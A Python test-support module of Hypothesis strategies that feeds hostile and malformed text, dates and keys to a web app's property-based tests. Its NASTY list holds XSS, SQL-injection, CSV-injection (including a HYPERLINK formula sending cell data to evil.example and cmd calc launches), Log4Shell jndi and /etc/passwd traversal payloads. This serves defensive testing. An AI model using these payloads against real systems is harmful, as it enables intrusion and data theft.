"""Hostile input for the property-based tests: what an attacker, a paste or a broken spreadsheet sends.

Lone surrogates are left out: they cannot be encoded in a UTF-8 request at all.
"""

from hypothesis import strategies as st

# Each a classic: markup and script, template syntax, SQL, spreadsheet formulas (CSV injection),
# direction overrides and invisible characters, control characters, format strings, paths, numbers.
NASTY = [
    "<script>alert(1)</script><b>x</b>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}",
    "{% debug %}",
    "'; DROP TABLE reviews_review; --",
    '" OR 1=1 --',
    "Robert'); DELETE FROM agencies_user;--",
    '=HYPERLINK("http://evil.example/?"&A1,"Click here")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\u202egnp.exe",
    "Health Visitor 1\u200f\u200e",
    "\u200b\u200c\u200d\ufeff",
    "\u202e",
    "\x00",
    "a\x00b",
    "\x1b[31mred\x1b[0m",
    "\x7f\x08\x0b\x0c",
    "\r\n\r\n",
    "\r",
    "%s%s%n%x",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "😀" * 40,
    "Z̵̡̢͇̮̈́̓a̸͎l̷g̶o̵",
    "ﷺ",
    "𝕳𝖊𝖑𝖑𝖔",
    "null",
    "None",
    "NaN",
    "-0",
    "1e309",
    "99999999999999999999999",
    "-99999999999999999999999",
    " ",
    "",
]

# Any valid Unicode but surrogates: control characters, format characters and private use included.
ANY_CHAR = st.characters(exclude_categories=("Cs",))


def long_text(least=5_000, most=25_000):
    """A long value: one of a few awkward pieces repeated past (or just within) a field's bound."""
    return st.builds(
        lambda piece, length: (piece * length)[:length],
        st.sampled_from(["a", "é", "😀", "<b>x</b>", "\u202e", "a ", "'; --", "\u200b"]),
        st.integers(least, most),
    )


def hostile_text(*, long=True):
    """Text as a hostile or careless person types it."""
    options = [
        st.sampled_from(NASTY),
        st.text(ANY_CHAR, max_size=40),
        st.lists(st.sampled_from(NASTY) | st.text(ANY_CHAR, max_size=8), min_size=2, max_size=5).map("".join),
    ]
    if long:
        options.append(long_text())
    return st.one_of(*options)


# The parts of a date as typed into the day, month and year boxes.
DATE_PARTS = [
    "1",
    "01",
    "29",
    "30",
    "31",
    "32",
    "0",
    "00",
    "02",
    "12",
    "13",
    "-1",
    "+1",
    " 3 ",
    "2026",
    "0001",
    "0000",
    "9999",
    "10000",
    "1970",
    "1900",
    "1753",
    "2099",
    "24",
    "99999999999999999999",
    "NaN",
    "1e3",
    "0x1F",
    "٣",
    "²",
    "１２",
    "",
]


def date_parts():
    part = st.sampled_from(DATE_PARTS) | st.text(ANY_CHAR, max_size=6)
    return st.tuples(part, part, part)


# Keys a browser never sends: not numbers, negative, too big for any database column.
JUNK_KEYS = [
    "-1",
    "0",
    "99999999999999999999",
    "9223372036854775807",
    "9223372036854775808",
    "1.5",
    "NaN",
    "abc",
    "",
    "1\x00",
    "١",
]


def junk_key():
    return st.sampled_from(JUNK_KEYS) | st.text(ANY_CHAR, max_size=6)
